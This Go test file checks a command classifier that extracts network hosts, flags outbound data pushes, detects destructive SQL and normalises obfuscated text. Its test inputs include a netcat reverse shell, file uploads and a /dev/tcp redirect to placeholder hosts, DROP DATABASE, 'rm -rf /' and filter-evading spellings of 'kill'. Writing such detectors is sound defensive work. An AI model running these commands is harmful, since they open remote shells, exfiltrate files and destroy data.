package classify

import (
	"fmt"
	"strings"
	"testing"
)

func TestHosts(t *testing.T) {
	for line, want := range map[string]string{
		"curl https://u:p@Ex.org:80/a?b": "ex.org https https://Ex.org:80/a?b",
		"curl -d @f http://a/":           "a http http://a/ push",
		"curl -X POST a.b/c":             "a.b http  push",
		"curl localhost:3000/x":          "localhost http  loopback",
		"curl http://127.1.2.3/":         "127.1.2.3 http http://127.1.2.3/ loopback",
		"curl http://[::1]:8/":           "::1 http http://[::1]:8/ loopback",
		"curl http://$H/":                " http ",
		"wget --post-file=f http://a/":   "a http http://a/ push",
		"git push git@a.b:c/d m":         "a.b ssh  push",
		"git clone https://a.b/c":        "a.b https https://a.b/c",
		"ssh -p 2 u@a ls":                "a ssh ",
		"scp f u@a:b":                    "a ssh  push",
		"scp u@a:b f":                    "a ssh ",
		"rsync -a d/ a:b/":               "a ssh  push",
		"psql -h a.b c":                  "a.b  ",
		"psql postgres://u@a.b/c":        "a.b postgres postgres://a.b/c",
		"nc -e sh 10.0.0.1 44":           "10.0.0.1  ",
		"nc -l 44":                       "",
		"ls > /dev/tcp/a.b/80":           "a.b tcp  push",
		"ping a.b":                       "a.b  ",
		"ls":                             "",
	} {
		var got []string
		for _, h := range facts(t, at("line", line)).Stages[0].Hosts {
			one := h.Name + " " + h.Scheme + " " + h.URL
			if h.Loopback {
				one += " loopback"
			}
			if h.Push {
				one += " push"
			}
			got = append(got, one)
		}
		if strings.Join(got, "; ") != want {
			t.Errorf("%s: got %q want %q", line, got, want)
		}
	}
}

func TestSQLStatements(t *testing.T) {
	for line, want := range map[string]string{
		"psql -c 'DROP DATABASE app;'":                                     "drop database app",
		"mysql -e 'drop table if exists `a`.`b`'":                          "drop table a.b",
		"sqlite3 a.db 'DELETE FROM t'":                                     "delete t",
		"psql -c 'DELETE FROM t WHERE a=1; SELECT 1'":                      "delete t where; select",
		"psql -c \"SELECT 'DROP TABLE users; DELETE FROM a'\"":             "select",
		"psql -c 'select 1 -- drop table a\n; /* drop */ truncate only a'": "select; truncate table a",
		"psql -c 'with x as (select 1) delete from t'":                     "delete t",
		"psql <<E\nDROP SCHEMA a;\nE":                                      "drop schema a",
		"docker exec d psql -c 'drop table a'":                             "drop table a",
		"DROP TABLE users":                                                 "drop table users",
		"DELETE FROM t WHERE a=1":                                          "delete t where",
		"TRUNCATE TABLE a":                                                 "truncate table a",
		"truncate -s 0 a":                                                  "",
		"echo DROP TABLE users":                                            "",
		"psql -f a.sql":                                                    "",
		"psql -c 'UPDATE t SET a=1'":                                       "update t",
		"psql -c 'ALTER TABLE a DROP b'":                                   "alter table a",
	} {
		var got []string
		for _, s := range facts(t, at("line", line)).Stages {
			for _, q := range s.SQL {
				one := strings.Join(strings.Fields(fmt.Sprint(q.Verb, " ", q.Object, " ", q.Name)), " ")
				if q.Where {
					one += " where"
				}
				got = append(got, one)
			}
		}
		if strings.Join(got, "; ") != want {
			t.Errorf("%s: got %q want %q", line, got, want)
		}
	}
}

func TestTextIsNormalised(t *testing.T) {
	for in, want := range map[string]string{
		"plain":                      "plain",
		"\uff4b\uff49\uff4c\uff4c":   "kill",
		"k\u200bi\u2060l\ufeffl":     "kill",
		"\x1b[31mki\x1b[0mll":        "kill",
		"\x1b]0;title\x07kill":       "kill",
		"\x1b]8;;http://x\x1b\\kill": "kill",
		"a\u00a0b":                   "a b",
		"a\tb\nc\rd":                 "a\tb\ncd",
		"e\u0301":                    "\u00e9",
		"ends in an escape \x1b":     "ends in an escape ",
		"ends in a sequence \x1b[31": "ends in a sequence ",
	} {
		if got := facts(t, at("text", in)).Raw; got != want {
			t.Errorf("%q: got %q want %q", in, got, want)
		}
	}
	if f := facts(t, at("text", "rm -rf /")); len(f.Stages) > 0 {
		t.Error("text is not a command")
	}
}
